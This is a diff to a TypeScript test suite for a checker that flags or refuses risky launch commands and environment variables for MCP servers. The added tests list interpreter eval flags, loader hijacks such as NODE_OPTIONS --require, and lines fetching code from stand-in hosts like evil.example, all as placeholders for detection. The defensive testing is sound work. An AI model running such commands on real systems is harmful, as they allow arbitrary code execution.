@@ -1,6 +1,6 @@
 import * as fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { commandDangers, refusalOf } from './command_dangers.ts';
+import { commandDangers, refusalOf, uncheckedReasons } from './command_dangers.ts';
 import { mcpReference } from './references.ts';
 import { SERVER_ID } from './testing/servers.ts';
 
@@ -64,7 +64,6 @@ describe('commands that are started as they are', () => {
     'uv --directory /opt/server run server.py',
     'uv run --directory /opt/server -m server',
     'uv run --with mcp==1.2.0 server.py -c x',
-    'uv run my-server --port 1',
     'pipx run --spec demo==1.0 demo',
     'dnx Demo.Mcp@1.2.3 --yes',
     'dnx Demo.Mcp@1.2.3 --yes -- --source x',
@@ -88,8 +87,6 @@ describe('commands that are started as they are', () => {
     `nix run github:acme/server/${'a'.repeat(40)}#mcp -- --impure`,
     'nix --offline run /opt/server#mcp',
     'cargo run --quiet --locked --manifest-path /opt/server/Cargo.toml -- --config x',
-    '/opt/my-server --stdio',
-    'my-server',
   ])('%s', (line) => {
     expect(codes(words(line))).toEqual([]);
   });
@@ -104,7 +101,9 @@ describe('commands that are started as they are', () => {
       DOCKER_USERNAME: 'x',
       PYTHONUNBUFFERED: '1',
     };
-    expect(codes(['my-server'], { ...env, NODE_OPTIONS: '--max-old-space-size=512 --no-warnings' })).toEqual([]);
+    expect(
+      codes(['node', '/opt/server.js'], { ...env, NODE_OPTIONS: '--max-old-space-size=512 --no-warnings' }),
+    ).toEqual([]);
   });
 });
 
@@ -317,19 +316,19 @@ describe('commands that are refused', () => {
     'GOVCS',
     'NIX_PATH',
   ])('the variable %s', (name) => {
-    expect(codes(['my-server'], { [name]: 'x' })).toEqual(['refuse environment_variable']);
+    expect(codes(['node', '/opt/server.js'], { [name]: 'x' })).toEqual(['refuse environment_variable']);
   });
 
   test.each(['--require=/tmp/x.js', '-r /tmp/x.js', '--max-old-space-size=1 --import data:x'])(
     'NODE_OPTIONS=%s',
     (value) => {
-      expect(codes(['my-server'], { NODE_OPTIONS: value })).toEqual(['refuse environment_variable']);
+      expect(codes(['node', '/opt/server.js'], { NODE_OPTIONS: value })).toEqual(['refuse environment_variable']);
     },
   );
 
   test('a name that is no variable, and values that none can hold', () => {
-    expect(codes(['my-server'], { 'A B': 'x' })).toEqual(['refuse bad_text']);
-    expect(codes(['my-server'], { A: '\0' })).toEqual(['refuse bad_text']);
+    expect(codes(['node', '/opt/server.js'], { 'A B': 'x' })).toEqual(['refuse bad_text']);
+    expect(codes(['node', '/opt/server.js'], { A: '\0' })).toEqual(['refuse bad_text']);
     expect(codes(Array.from({ length: 300 }, () => 'x'))).toContain('refuse bad_text');
     expect(codes(['x', 'y'.repeat(5000)])).toContain('refuse bad_text');
   });
@@ -337,6 +336,309 @@ describe('commands that are refused', () => {
   test('says which word, in text that a terminal can show', () => {
     const danger = refusalOf(commandDangers(['npx', '-y', 'evil\u001b[2J/x\u202e'], {}));
     expect(danger?.message).toMatch(/"evil\?\[2J\/x\?"/);
+  });
+});
+
+const NOBODY_CHECKED = ['unchecked unchecked_code'];
+
+describe('commands that nobody checked', () => {
+  test.each([
+    // programs that are no launcher known here, whatever they are
+    'my-server',
+    '/opt/my-server --stdio',
+    'R -e x',
+    'R --slave -f /tmp/x',
+    'erl -eval x',
+    'erlc x',
+    'escript /tmp/x',
+    'iex -e x',
+    'ghc -e x',
+    'runghc /tmp/x.hs',
+    'stack runghc x',
+    'sqlite3 :memory: .shell_x',
+    'psql -c x',
+    'mysql -e x',
+    'redis-cli eval x 0',
+    'mongosh --eval x',
+    'gdb-multiarch -ex x',
+    'vimdiff -c x',
+    'ex -c x',
+    'gvim -c x',
+    'nvim-qt -- -c x',
+    'emacsclient --eval x',
+    'ld.so /tmp/x',
+    'ld-2.31.so /tmp/x',
+    '/lib/ld.so.1 /tmp/x',
+    '/lib/ld64.so.2 /tmp/x',
+    'qemu-x86_64 /tmp/x',
+    'wine /tmp/x.exe',
+    'mono /tmp/x.exe',
+    'swift /tmp/x.swift',
+    'dart run x',
+    'flutter run',
+    'crystal eval x',
+    'nim e x',
+    'zig run x',
+    'ocaml -e x',
+    'utop x',
+    'sbcl --eval x',
+    'clisp -x x',
+    'racket -e x',
+    'scheme --quiet',
+    'gforth -e x',
+    'octave --eval x',
+    'maxima --batch-string=x',
+    'gnuplot -e x',
+    'gs -c x',
+    'jq -n input',
+    'm4 /tmp/x',
+    'bc /tmp/x',
+    'dc -e x',
+    'wish -c x',
+    'jshell x',
+    'jrunscript -e x',
+    'scala -e x',
+    'kotlin -e x',
+    'kotlinc -script x',
+    'ant -f /tmp/x',
+    'bazel run x',
+    'buck2 run x',
+    'pants run x',
+    'just x',
+    'task x',
+    'rustc x',
+    'gcc -specs=/tmp/x',
+    'tcc -run /tmp/x.c',
+    'prove -e x',
+    'irb -e x',
+    'rackup /tmp/x',
+    'phpdbg -qrr x',
+    'php-fpm -c x',
+    'composer exec x',
+    'artisan tinker',
+    'powershell_ise -c x',
+    'bash.real -c x',
+    'zsh-static -c x',
+    'rc -c x',
+    'es -c x',
+    'oil -c x',
+    'osh -c x',
+    'mawk-static x',
+    'busybox.nosuid sh',
+    'runc run x',
+    'crun run x',
+    'lxc exec x',
+    'machinectl shell x',
+    'loginctl x',
+    'run0 x',
+    'uwsgi --eval x',
+    'gunicorn x:y',
+    'celery -A x worker',
+    'ffmpeg -i x',
+    'tcpdump -z x',
+    'mail -s x',
+    'logger x',
+    // interpreters under another name
+    'python3.11-dbg -c x',
+    'python3-config x',
+    'x86_64-linux-gnu-python3 -c x',
+    'python.real -c x',
+    'pypy3-c -c x',
+    'micropython -c x',
+    'jython -c x',
+    'ipython3x -c x',
+    'nodejs-lts -e x',
+    'node_exporter x',
+    'PYTHON /opt/x.py',
+    'NODE /opt/x.js',
+    'Node.exe /opt/x.js',
+    'ruby-mri -e x',
+    'jruby-complete -e x',
+    'perl5.36-x86_64-linux -e x',
+    'php-cgi -r x',
+    'php8.2-cli -r x',
+    'luajit-2.1.0-beta3 -e x',
+    'lua5.4-static -e x',
+    'npx5 -y demo@1.2.3',
+    'uvx2 demo@1.2.3',
+    // known interpreters with words that are no script of a server
+    'deno test https://evil.example/x.ts',
+    'deno bench https://evil.example/x.ts',
+    'deno check /tmp/x.ts',
+    'deno compile https://evil.example/x.ts',
+    'deno jupyter2 x',
+    'deno c',
+    'deno run -A jar:file:/tmp/x',
+    'bun c x',
+    'bun i x',
+    'bun a x',
+    'bun test x',
+    'bun build x',
+    'bun pm x',
+    'bun run start',
+    'tsx watch /tmp/x.ts',
+    'node index',
+    'node node:repl',
+    'python -X pycache_prefix=/tmp/x /opt/server.py',
+    'python -X presite=x /opt/server.py',
+    'python -Xpresite=x /opt/server.py',
+    'python -W error::evil.Warning /opt/server.py',
+    'python -m asyncio',
+    'python -m unittest x',
+    'python -m pytest x',
+    'python -m http.server',
+    'python -m mcp run x',
+    'python -m uvicorn x:y',
+    'python /usr/lib/python3.12/pydoc.py x',
+    'node /usr/lib/node_modules/npm/bin/npm-cli.js exec -c x',
+    'node /opt/node/lib/node_modules/tsx/dist/cli.mjs -e x',
+    'node /usr/share/nodejs/npm/bin/npx-cli.js -c x',
+    'perl /usr/bin/prove x',
+    'ruby /usr/bin/irb x',
+    'groovy ftp2://evil.example/x.groovy',
+    'java -cp /tmp/x.jar Main',
+    'java -Djava.system.class.loader=x -jar /opt/server.jar',
+    'java -Dlogging.config=http://evil.example/x -jar /opt/server.jar',
+    'java com.example.Main',
+    // packages that run what their arguments say
+    'npx -y tsx@4.0.0 -e x',
+    'npx -y node@20.0.0 -e x',
+    'npx -y zx@8.0.0 x',
+    'npx -y concurrently@9.0.0 x',
+    'npx -y supergateway@3.0.0 --stdio x',
+    'npx -y @modelcontextprotocol/inspector@0.1.0 x',
+    'npx -p demo@1.2.3 erl -eval x',
+    'npx -p ts-node@1.0.0 ts-node-script x',
+    'bunx tsx@4.0.0 -e x',
+    'pnpm dlx ts-node@10.0.0 -e x',
+    'yarn dlx nodemon@3.0.0 --exec x',
+    'uvx python@3.12 -c x',
+    'uvx ipython@8.0 -c x',
+    'uvx --from mcp==1.0 mcp run x',
+    'uvx --from requests==2.0 ghc -e x',
+    'uvx mcpo@0.1 -- x',
+    'uv run my-server --port 1',
+    'uv run erl -eval x',
+    'pipx run ansible-core==2.0 x',
+    'pipx run --spec requests==2.0 ghc -e x',
+    'dnx dotnet-script@1.0.0 eval x',
+    'deno run -A npm:tsx@4.0.0 -e x',
+    'go run github.com/traefik/yaegi/cmd/yaegi@v0.16.1 -e x',
+    'docker run -i --rm alpine:3.20 wget x',
+    'docker run -i --rm python:3.12 -c x',
+    'docker run -i --rm acme/mcp:1.0 sh -c x',
+    'docker run -i --rm acme/mcp:1.0 /usr/bin/python3 -c x',
+  ])('%s', (line) => {
+    const found = codes(words(line));
+    expect(found.filter((code) => code.startsWith('unchecked'))).not.toEqual([]);
+    expect(found.filter((code) => code.startsWith('refuse'))).toEqual([]);
+    expect(uncheckedReasons(commandDangers(words(line), {})).length).toBeGreaterThan(0);
+  });
+
+  test.each([
+    'JAVA_OPTS JAVA_HOME JAVA_ARGS JVM_OPTS CATALINA_OPTS SPRING_CONFIG_LOCATION SBT_OPTS MAVEN_ARGS GRADLE_USER_HOME',
+    'ELIXIR_ERL_OPTIONS ERL_AFLAGS ERL_FLAGS ERL_ZFLAGS ERL_LIBS ERL_COMPILER_OPTIONS ERL_INETRC MIX_EXS RELEASE_COOKIE_FILE',
+    'NODE_COMPILE_CACHE NODE_V8_COVERAGE NODE_REDIRECT_WARNINGS NODE_ICU_DATA NODE_EXTRA_CA_CERTS TS_NODE_PROJECT TSX_TSCONFIG',
+    'ELECTRON_RUN_AS_NODE2 PUPPETEER_EXECUTABLE_PATH PLAYWRIGHT_BROWSERS_PATH CHROME_PATH ESBUILD_BINARY_PATH PRISMA_QUERY_ENGINE_BINARY',
+    'GUILE_LOAD_PATH JULIA_LOAD_PATH JULIA_DEPOT_PATH JULIA_PROJECT GHC_PACKAGE_PATH GHCRTS OCAMLRUNPARAM_FILE TCLLIBPATH PERL_UNICODE',
+    'GTK_PATH GTK_MODULES GIO_MODULE_DIR GIO_EXTRA_MODULES GI_TYPELIB_PATH QT_PLUGIN_PATH QML2_IMPORT_PATH GST_PLUGIN_PATH MAGICK_CONFIGURE_PATH',
+    'TERMINFO TERMCAP INPUTRC VIMINIT EXINIT EMACSLOADPATH GNUPGHOME KRB5_CONFIG ODBCSYSINI ODBCINI TZDIR NLSPATH HOSTALIASES',
+    'KUBECONFIG HELM_PLUGINS TF_CLI_CONFIG_FILE ANSIBLE_CONFIG ANSIBLE_LIBRARY AWS_CONFIG_FILE CLOUDSDK_PYTHON DJANGO_SETTINGS_MODULE',
+    'MSBUILD_EXE_PATH MSBUILDSDKSPATH DOTNET_DbgEnableMiniDump COMPlus_EnableDiagnostics COREHOST_TRACEFILE PSModulePath',
+    'ENV SHELL_COMMAND SERVER_CMD START_COMMAND INIT_SCRIPT PLUGIN_DIR MODULE_PATH LIBRARY_PATH HOOKS_DIR EXTENSIONS',
+    'REQUESTS_CA_BUNDLE SSL_CERT_FILE CURL_HOME WGETRC MAKEFLAGS CC CFLAGS LDFLAGS VIRTUAL_ENV CONDA_PREFIX NUMBA_CACHE_DIR',
+    'OTEL_PYTHON_CONFIGURATOR LESS MORE HISTFILE HTTPD_MODULE GS_LIB FPATH fpath WHATEVER STUFF',
+  ])('variables %s', (names) => {
+    for (const name of names.split(' ')) {
+      expect([name, codes(['node', '/opt/server.js'], { [name]: '/tmp/x' })]).toEqual([name, NOBODY_CHECKED]);
+    }
+  });
+
+  test.each([
+    'API_KEY OPENAI_API_KEY GITHUB_TOKEN TOKEN PASSWORD DB_PASSWORD PGPASSWORD PGHOST apiKey x_api_key BEARER_TOKEN',
+    'DATABASE_URL BASE_URL API_BASE REDIS_URI HOST PORT MCP_HTTP_PORT REGION AWS_REGION AWS_PROFILE AWS_ACCESS_KEY_ID',
+    'LOG_LEVEL DEBUG MCP_LOG_LEVEL NODE_ENV RUST_LOG TZ LANG LC_ALL NO_COLOR HTTPS_PROXY NO_PROXY PYTHONUNBUFFERED',
+    'ALLOWED_TOOLS ENABLED_TOOLSETS READ_ONLY MAX_ROWS REQUEST_TIMEOUT_MS CACHE_TTL WORKSPACE_ID TEAM_ID USER_EMAIL',
+    'DB_PATH OBSIDIAN_VAULT_PATH PROJECT_DIR MEMORY_FILE_PATH LOG_FILE OUTPUT_DIR ALLOWED_DIRECTORIES DATA_DIR',
+    'GOOGLE_APPLICATION_CREDENTIALS GOOGLE_CLIENT_SECRET AZURE_TENANT_ID SLACK_TEAM_ID NODE_AUTH_TOKEN KUBE_API_TOKEN',
+  ])('and variables that are data do not count: %s', (names) => {
+    for (const name of names.split(' ')) {
+      const value = mcpReference(SERVER_ID, 'X');
+      expect([name, codes(['node', '/opt/server.js'], { [name]: value })]).toEqual([name, []]);
+    }
+  });
+
+  test('a switch is data, whatever its name; a URL of Java with statements in it is not', () => {
+    expect(codes(['node', '/opt/server.js'], { SOMETHING_ODD: 'true', HTTPD_EXTRA: '3' })).toEqual([]);
+    expect(codes(['node', '/opt/server.js'], { DATABASE_URL: 'jdbc:h2:mem:x;INIT=RUNSCRIPT' })).toEqual(NOBODY_CHECKED);
+  });
+
+  test('no interpreter passes silently, under any version, suffix, path and case', () => {
+    const interpreter = fc.constantFrom(
+      ...'python pypy node nodejs deno bun ruby perl php lua luajit java julia guile elixir groovy tclsh rscript'.split(
+        ' ',
+      ),
+      ...'bash sh zsh dash ksh fish pwsh busybox erl r ghc sbcl racket scala swift octave awk gawk sed vim emacs gdb'.split(
+        ' ',
+      ),
+    );
+    const directory = fc.constantFrom('', '/usr/bin/', '/opt/x/', '/home/me/.local/bin/', 'C:\\tools\\');
+    const suffix = fc.constantFrom(
+      '',
+      '.exe',
+      '.EXE',
+      '.com',
+      '-dbg',
+      '-static',
+      '.real',
+      '.distrib',
+      '_old',
+      '-config',
+      'm',
+      't',
+      'w',
+      '-cli',
+    );
+    const version = fc.constantFrom('', '2', '3', '3.11', '20', '-18', '5.36.0', '-2.1.0-beta3', '_311', '8.2');
+    const code = fc.constantFrom(
+      ['-e', 'x'],
+      ['-c', 'x'],
+      ['-r', 'x'],
+      ['--eval', 'x'],
+      ['-eval', 'x'],
+      ['-x', 'x'],
+      ['-ex', 'x'],
+      ['x'],
+    );
+    fc.assert(
+      fc.property(
+        directory,
+        interpreter,
+        version,
+        suffix,
+        code,
+        fc.boolean(),
+        (where, name, number, more, args, isLoud) => {
+          const program = where + (isLoud ? name.toUpperCase() : name) + number + more;
+          const dangers = commandDangers([program, ...args], {});
+          expect([program, dangers.some(({ severity }) => severity !== 'warn')]).toEqual([program, true]);
+        },
+      ),
+      { numRuns: 3_000 },
+    );
+  });
+
+  test('no word that nobody knows passes silently as a program', () => {
+    const known =
+      /^(?:npx|bunx|pnpx|npm|pnpm|yarn|uvx|uv|pipx|dnx|dotnet|go|nix|cargo|docker|podman|nerdctl|finch|[a-z-]*(?:node|nodejs|tsx|ts-node|ts-node-esm|bun|deno|python|pypy|py|perl|ruby|php|java|lua|luajit|rscript|julia|tclsh|guile|elixir|groovy)[\d.]*)$/;
+    fc.assert(
+      fc.property(fc.stringMatching(/^[a-z][a-z0-9._-]{0,12}$/), (program) => {
+        fc.pre(!known.test(program));
+        const dangers = commandDangers([program, '/opt/server.js'], {});
+        expect(dangers.some(({ severity }) => severity !== 'warn')).toBe(true);
+      }),
+      { numRuns: 3_000 },
+    );
   });
 });
 
@@ -362,8 +664,8 @@ describe('commands that are told about', () => {
     ['docker_mount', 'docker run -i -v /tmp/project:/work:ro acme/mcp:1.0'],
     ['docker_mount', 'docker run -i --mount type=bind,src=/tmp/project,dst=/work,ro acme/mcp:1.0'],
     ['docker_publish', 'docker run -i -p 8080:80 acme/mcp:1.0'],
-    ['secret_in_arguments', `my-server --token=${mcpReference(SERVER_ID, 'TOKEN')}`],
-    ['hidden_characters', 'my-server a\u200bb'],
+    ['secret_in_arguments', `node /opt/server.js --token=${mcpReference(SERVER_ID, 'TOKEN')}`],
+    ['hidden_characters', 'node /opt/server.js a\u200bb'],
   ])('%s: %s', (code, line) => {
     expect(codes(words(line))).toEqual([`warn ${code}`]);
     expect(refusalOf(commandDangers(words(line), {}))).toBeNull();
